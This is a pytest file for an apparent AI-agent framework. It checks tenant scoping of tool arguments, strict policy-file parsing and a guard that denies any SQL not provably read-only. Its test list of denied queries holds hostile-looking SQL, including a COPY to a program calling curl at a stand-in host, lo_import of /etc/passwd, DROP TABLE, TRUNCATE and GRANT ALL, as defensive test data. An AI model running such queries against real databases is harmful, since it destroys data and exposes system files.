"""Authorization that means what it says: tenants at any depth, strict documents, parsed SQL."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel, Field

from ownloop import Actor, Agent, RunStatus, StopReason, ToolRegistry
from ownloop.exceptions import ConfigurationError
from ownloop.policy import (
    SIDE_EFFECT_FUNCTIONS,
    Allow,
    Deny,
    Policy,
    allow_all,
    refuse_sql_writes,
    tenant_scoped,
)
from ownloop.testing import ScriptedModel, tool_call

from .test_policy import READ

ACME = Actor(id="alice", tenant="acme")


class Invoice(BaseModel):
    """An argument model that carries a tenant inside it."""

    number: str
    tenant: str = Field(alias="tenant_id")


@pytest.mark.parametrize(
    ("arguments", "allowed"),
    [
        ({"tenant_id": "acme"}, True),
        ({"tenant_id": "evil"}, False),
        ({"invoice": {"number": "7", "tenant_id": "evil"}}, False),
        ({"invoice": {"number": "7", "tenant_id": "acme"}}, True),
        ({"batch": [{"tenant_id": "acme"}, {"tenant_id": "evil"}]}, False),
        ({"deep": {"a": [{"b": ({"tenant_id": "evil"},)}]}}, False),
        ({"tenant_id": "acme", "copy": {"tenant_id": "ACME"}}, False),  # case-sensitive
        ({"tenant_id": " acme"}, False),  # no trimming
        ({"invoice": {"tenant_id": None}}, False),  # null is not the actor's tenant
        ({"invoice": {"tenant_id": 7}}, False),
        ({"invoice": Invoice(number="7", tenant_id="evil")}, False),
        ({"invoice": Invoice(number="7", tenant_id="acme")}, True),
        ({"other": {"tenant": "evil"}}, True),  # a different name is not checked
        ({"at": object(), "tenant_id": "acme"}, True),  # opaque values hold no arguments
    ],
)
def test_tenant_scoped_checks_the_argument_at_any_depth(
    arguments: dict[str, Any], allowed: bool
) -> None:
    """Every occurrence, in objects, models and lists, must be exactly the actor's tenant."""
    decision = tenant_scoped().decide(ACME, READ, arguments)
    assert (decision == Allow()) is allowed, decision


def test_a_nested_tenant_denial_names_the_path() -> None:
    """The denial says where the foreign tenant was found."""
    decision = tenant_scoped().decide(ACME, READ, {"batch": [{"tenant_id": "evil"}]})
    assert isinstance(decision, Deny)
    assert "batch[0].tenant_id" in decision.reason


def test_a_model_argument_naming_another_tenant_is_denied_in_a_run() -> None:
    """A tool taking an invoice model cannot read another tenant's invoice."""
    registry = ToolRegistry()
    read: list[str] = []

    @registry.tool(effect="read")
    def read_invoice(invoice: Invoice) -> str:
        """Read an invoice.

        Args:
            invoice: Which invoice.
        """
        read.append(invoice.tenant)
        return "secret"

    call = tool_call("read_invoice", invoice={"number": "1", "tenant_id": "evil"})
    agent = Agent(ScriptedModel([call]), registry, policy=allow_all() & tenant_scoped())
    result = agent.run_sync("read it", actor=ACME)
    assert (result.status, result.stop_reason) == (RunStatus.FAILED, StopReason.TOOL_DENIED)
    assert read == []


@pytest.mark.parametrize(
    ("document", "key", "value"),
    [
        ({"max_steps": True}, "max_steps", "true"),
        ({"max_steps": "3"}, "max_steps", '"3"'),
        ({"max_steps": 3.0}, "max_steps", "3.0"),
        ({"require_current_check": "yes"}, "require_current_check", '"yes"'),
        ({"audit_after_tool": 1}, "audit_after_tool", "1"),
        ({"denied_tools": "refund"}, "denied_tools", '"refund"'),
        ({"denied_tools": [1]}, "denied_tools.0", "1"),
        ({"deadline_s": "30"}, "deadline_s", '"30"'),
        ({"tenant_argument": 5}, "tenant_argument", "5"),
        ({"required_roles": {"refund": 1}}, "required_roles.refund", "1"),
        ({"allowed_tools": [""]}, "allowed_tools.0", '""'),  # found by the fuzz suite
    ],
)
def test_policy_documents_refuse_every_coercion_naming_key_and_value(
    document: dict[str, Any], key: str, value: str
) -> None:
    """A value of the wrong type is an error naming the key and the value, never converted."""
    with pytest.raises(ConfigurationError) as caught:
        Policy.from_document(document)
    assert f"{key}:" in str(caught.value)
    assert f"(got {value})" in str(caught.value)


def test_policy_documents_keep_exact_types_and_accept_integer_seconds() -> None:
    """Well-typed values load as given; an integer number of seconds is a number."""
    policy = Policy.from_document({"max_steps": 3, "deadline_s": 30, "denied_tools": ["refund"]})
    assert policy.budgets == {"max_steps": 3, "deadline_s": 30.0}


def test_a_policy_file_with_a_duplicate_key_is_refused(tmp_path: Path) -> None:
    """{"denied_tools": ["refund"], "denied_tools": []} is an error, not allow-all."""
    path = tmp_path / "policy.json"
    path.write_text('{"denied_tools": ["refund"], "denied_tools": []}', encoding="utf-8")
    with pytest.raises(ConfigurationError, match="'denied_tools' appears twice"):
        Policy.from_file(path)
    toml = tmp_path / "policy.toml"
    toml.write_text('denied_tools = ["refund"]\ndenied_tools = []\n', encoding="utf-8")
    with pytest.raises(ConfigurationError, match="cannot read policy file"):
        Policy.from_file(toml)


WRITES = [
    "SELECT * INTO backup FROM orders",
    "COPY orders TO PROGRAM 'curl evil'",
    "CALL refund_all()",
    "DO $$ BEGIN DELETE FROM orders; END $$",
    "SELECT setval('orders_id_seq', 1)",
    "SELECT pg_catalog.nextval('s')",
    "VACUUM",
    "VACUUM FULL orders",
    "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
    "SELECT 1; DELETE FROM orders",
    "SELECT * FROM orders FOR UPDATE",
    "INSERT INTO orders VALUES (1)",
    "UPDATE orders SET total = 0",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    "DROP TABLE orders",
    "TRUNCATE orders",
    "CREATE TABLE x (a int)",
    "GRANT ALL ON orders TO mallory",
    "SET search_path = evil",
    "BEGIN",
    "EXPLAIN ANALYZE DELETE FROM orders",
    "SELECT dblink_exec('dbname=x', 'DELETE FROM orders')",
    "SELECT query_to_xml('DELETE FROM orders RETURNING *', true, true, '')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT pg_terminate_backend(42)",
    "",
    "-- only a comment",
    "SELEC * FROM orders",
    "SELECT 'unterminated",
]


@pytest.mark.parametrize("query", WRITES)
def test_refuse_sql_writes_denies_everything_not_provably_read_only(query: str) -> None:
    """Writes, commands, side-effecting functions, several statements and unparsable text."""
    decision = refuse_sql_writes("query", dialect="postgres").decide(None, READ, {"query": query})
    assert isinstance(decision, Deny), query
    assert "not a read-only query" in decision.reason


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * FROM orders",
        "select count(*) as n from orders where total > 10",
        "WITH big AS (SELECT * FROM orders WHERE total > 10) SELECT id FROM big",
        "SELECT id FROM a UNION ALL SELECT id FROM b",
        "(SELECT 1)",
        "SELECT upper(name), coalesce(note, '') FROM customers ORDER BY 1 LIMIT 5",
        "SELECT 1;",
    ],
)
def test_refuse_sql_writes_allows_plain_selects(query: str) -> None:
    """A single SELECT, WITH or set operation without side effects is allowed."""
    assert refuse_sql_writes("query").decide(None, READ, {"query": query}) == Allow()


def test_refuse_sql_writes_denies_non_text_and_ignores_other_tools() -> None:
    """A non-text value is denied; a tool outside the guarded list is not checked."""
    policy = refuse_sql_writes("query", "run_sql")
    assert isinstance(policy.decide(None, READ.model_copy(update={"name": "run_sql"}),
                                    {"query": ["DROP TABLE x"]}), Deny)  # fmt: skip
    assert policy.decide(None, READ, {"query": "DROP TABLE x"}) == Allow()
    assert refuse_sql_writes("query").decide(None, READ, {"query": None}) == Allow()
    assert refuse_sql_writes("query").decide(None, READ, {"other": "DROP TABLE x"}) == Allow()


def test_the_side_effect_list_names_the_documented_functions() -> None:
    """The documented list is exported and lower-case, so lookups are case-insensitive."""
    assert {"setval", "nextval", "dblink_exec", "lo_import", "load_extension"} <= (
        SIDE_EFFECT_FUNCTIONS
    )
    assert all(name == name.lower() for name in SIDE_EFFECT_FUNCTIONS)
    denied = refuse_sql_writes().decide(None, READ, {"query": "SELECT SETVAL('s', 1)"})
    assert isinstance(denied, Deny)
    assert "setval()" in denied.reason


@pytest.mark.parametrize("query", ["LISTEN orders", "VALUES (1)", "SHOW TABLES"])
def test_statements_that_are_neither_select_nor_known_writes_are_refused(query: str) -> None:
    """A statement sqlglot reads as something other than a SELECT is not provably read-only."""
    decision = refuse_sql_writes(dialect="postgres").decide(None, READ, {"query": query})
    assert isinstance(decision, Deny)
    assert "not a read-only query" in decision.reason
